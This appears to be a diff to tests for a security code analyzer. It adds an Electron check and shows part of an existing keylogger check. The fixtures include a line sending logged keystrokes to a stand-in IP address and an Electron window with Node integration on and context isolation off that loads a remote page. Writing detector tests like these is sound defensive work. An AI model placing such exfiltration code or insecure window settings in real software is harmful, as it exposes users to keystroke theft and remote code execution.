@@ -88,3 +88,22 @@ def test_keylogger_callback_and_timer_sender_in_different_functions_are_one_beha
     assert _keylogger_findings(code) == [(9, "critical")]
     quiet = code.replace("    requests.post('https://203.0.113.9/k', data=''.join(LOG))\n", "    print(LOG)\n")
     assert quiet != code and _keylogger_findings(quiet) == []
+
+
+def _electron_findings(code: str) -> list[tuple[int, str]]:
+    analyzer = Analyzer(RULES.select(("electron-node-window-loads-remote",), ()), Config(honour_suppressions=False))
+    return [(f.line, f.severity) for f in analyzer.analyze(Document(path="main.js", content=code.encode())).findings]
+
+
+def test_node_window_options_built_in_variables_and_a_window_loaded_from_another_function():
+    code = ("const { BrowserWindow } = require('electron');\n"
+            "const base = { nodeIntegration: true };\n"
+            "const opts = { show: false, webPreferences: { ...base, contextIsolation: false } };\n"
+            "let win;\n"
+            "function make() { win = new BrowserWindow(opts); }\n"
+            "function show() { win.loadURL('https://panel.example.net/'); }\n")
+    assert _electron_findings(code) == [(5, "high")]
+    local = code.replace("win.loadURL('https://panel.example.net/')", "win.loadFile('index.html')")
+    assert _electron_findings(local) == []
+    isolated = code.replace("nodeIntegration: true", "nodeIntegration: false")
+    assert _electron_findings(isolated) == []
